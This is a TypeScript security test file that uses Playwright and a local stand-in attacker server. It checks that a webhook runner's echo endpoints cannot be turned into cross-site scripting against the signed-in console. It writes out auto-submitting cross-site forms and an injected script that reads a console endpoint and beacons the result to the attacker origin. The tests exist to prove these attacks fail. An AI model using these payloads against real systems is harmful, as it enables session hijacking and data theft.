/**
 * A webhook answer must never become a page that scripts the runner's origin (the console's
 * origin). A cross-site page auto-submits a form to sync integrations that echo what they are
 * sent — an uploaded text/html file, or text with a caller-chosen content type — while the
 * operator is signed in to the console in the same browser. Chromium via playwright-core.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { launchBrowser, newContext, signIn } from '../console/helpers.js';
import { fixtures, startTestServer, type TestServer } from './helpers.js';

vi.setConfig({ testTimeout: 60_000 });

let s: TestServer;
let attacker: Server;
let attackerOrigin: string;
let browser: Browser;
let context: BrowserContext;
/** Requests the injected script made back to the attacker (it would, had it run). */
const beacons: string[] = [];
/** Attack pages by path, filled in per test. */
const pages = new Map<string, string>();

beforeAll(async () => {
  s = await startTestServer({ dir: join(fixtures, 'edge') });
  attacker = createServer((req, res) => {
    if (req.url?.startsWith('/ran')) {
      beacons.push(req.url);
      res.end();
      return;
    }
    res.writeHead(pages.has(req.url ?? '') ? 200 : 404, { 'content-type': 'text/html' });
    res.end(pages.get(req.url ?? '') ?? '');
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  // `localhost` and `127.0.0.1` are different sites: the attack page is cross-site to the runner.
  attackerOrigin = `http://localhost:${(attacker.address() as AddressInfo).port}`;
  browser = await launchBrowser();
  context = await newContext(browser, s.url);
  await signIn(await context.newPage());
});
afterAll(async () => {
  await browser?.close();
  await s?.stop();
  await new Promise<void>((r) => (attacker ? attacker.close(() => r()) : r()));
});

/** The HTML an attacker wants to run on the runner's origin: marks the document and phones home. */
function payload(): string {
  return `<!doctype html><body><script>
    document.body.dataset.ran = location.origin;
    fetch('/console/connections').then((r) => new Image().src = '${attackerOrigin}/ran?status=' + r.status);
  </script>injected</body>`;
}

/** Whether the document the page shows ran the injected script (set while parsing, before load). */
async function scriptRan(page: Page): Promise<boolean> {
  await page.waitForLoadState('load');
  return page.evaluate(() => document.body?.dataset.ran !== undefined);
}

describe('an echoed upload or text never runs script on the runner origin', () => {
  it('a multipart form with a text/html file, echoed by core.respond: a download, not a page', async () => {
    const page = await context.newPage();
    pages.set(
      '/upload',
      `<!doctype html><form id="f" method="POST" enctype="multipart/form-data" action="${s.urls('echo-file').live}">
        <input type="file" name="file" id="i"></form>
        <script>
          const dt = new DataTransfer();
          dt.items.add(new File([${JSON.stringify(payload()).replace(/</g, '\\u003c')}], 'page.html', { type: 'text/html' }));
          document.getElementById('i').files = dt.files;
          document.getElementById('f').submit();
        </script>`,
    );
    const runner = new URL(s.url).origin;
    const download = page.waitForEvent('download').then((d) => ({ kind: 'download' as const, name: d.suggestedFilename() }));
    // A download aborts the navigation this waits for: then it never settles.
    const rendered = page
      .waitForURL((u) => u.origin === runner)
      .then(() => ({ kind: 'rendered' as const }))
      .catch(() => new Promise<never>(() => undefined));
    // The page submits itself at once: wait only until it started, not for a load the download ends.
    await page.goto(`${attackerOrigin}/upload`, { waitUntil: 'commit' });
    const outcome = await Promise.race([download, rendered]);
    if (outcome.kind === 'rendered') expect(await scriptRan(page), 'the echoed HTML ran script on the runner origin').toBe(false);
    expect(outcome.kind).toBe('download');
    expect(new URL(page.url()).origin).toBe(attackerOrigin);
    expect(beacons).toEqual([]);
    await page.close();
  });

  it('a form field echoed as text/html: rendered, but sandboxed — no script runs', async () => {
    const page = await context.newPage();
    pages.set(
      '/text',
      `<!doctype html><form id="f" method="POST" action="${s.urls('echo-text').live}">
        <input type="hidden" name="type" value="text/html">
        <input type="hidden" name="text" id="t"></form>
        <script>
          document.getElementById('t').value = ${JSON.stringify(payload()).replace(/</g, '\\u003c')};
          document.getElementById('f').submit();
        </script>`,
    );
    const runner = new URL(s.url).origin;
    await page.goto(`${attackerOrigin}/text`, { waitUntil: 'commit' });
    await page.waitForURL((u) => u.origin === runner);
    expect(await page.locator('body').textContent()).toContain('injected');
    expect(await scriptRan(page)).toBe(false);
    expect(beacons).toEqual([]);
    await page.close();
  });
});
